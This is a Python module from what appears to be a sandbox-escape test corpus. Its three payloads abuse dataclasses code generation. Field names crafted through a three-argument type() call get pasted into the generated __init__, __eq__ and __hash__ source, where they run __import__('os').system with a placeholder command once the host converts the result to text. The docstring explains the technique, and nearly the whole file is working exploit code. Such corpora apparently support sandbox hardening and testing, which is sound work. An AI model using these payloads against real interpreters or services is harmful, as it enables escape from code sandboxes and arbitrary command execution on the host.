"""Class 2: code generation inside allowed modules (dataclasses).

A three-argument ``type()`` chooses ``__module__`` and ``__annotations__``;
dataclasses pastes field names into source it executes with the globals of
``sys.modules[cls.__module__]``, in its own frame.  The generated code runs
after the cell, when the host turns ``pwned`` into text (class 5).
"""

from .name_gadgets import LATER

# a field name that closes the parameter list of dataclasses' __create_fn__
# with a default that leaves a function of json's (real builtins) on a host
# class; it is called after the cell (3.10 names the locals _type_<name>)
_INIT = ("import dataclasses, json\n"
         "for pre in ('__dataclass_type_', '_type_'):\n"
         "    n = ('x__=setattr(__import__(\"json\").JSONDecoder,\"later\",'\n"
         "         'lambda:__import__(\"os\").system(%r)),*,' % @C@) + pre + 'y'\n"
         "    C = type('C', (), {'__module__': 'json', '__annotations__': {n: int},\n"
         "                       n: dataclasses.field(init=False, repr=False, compare=False)})\n"
         "    try:\n        dataclasses.dataclass(C)\n    except (SyntaxError, TypeError):\n"
         "        pass\n"
         + LATER % "str(json.JSONDecoder.later())")

PAYLOADS = [
    ("dataclass_init_locals", "codegen", "run_command", _INIT),
    # the field name is an expression in the generated __eq__
    ("dataclass_eq_body", "codegen", "run_command",
     "import dataclasses\nn = 'x,__import__(\"os\").system(%r)' % @C@\n"
     "C = type('C', (), {'__module__': 'json', '__annotations__': {n: int}, 'x': 0})\n"
     "C = dataclasses.dataclass(C, init=False, repr=False)\n" + LATER % "str(C() == C())"),
    # ... and in the generated __hash__, the class written as a statement
    ("dataclass_hash_body", "codegen", "run_command",
     "from dataclasses import dataclass\nn = 'x,__import__(\"os\").system(%r)' % @C@\n"
     "class B:\n    x = 0\n"
     "C = dataclass(init=False, repr=False, eq=False, unsafe_hash=True)(\n"
     "    type('C', (B,), {'__module__': 'json', '__annotations__': {n: int}}))\n"
     + LATER % "str(hash(C()))"),
]
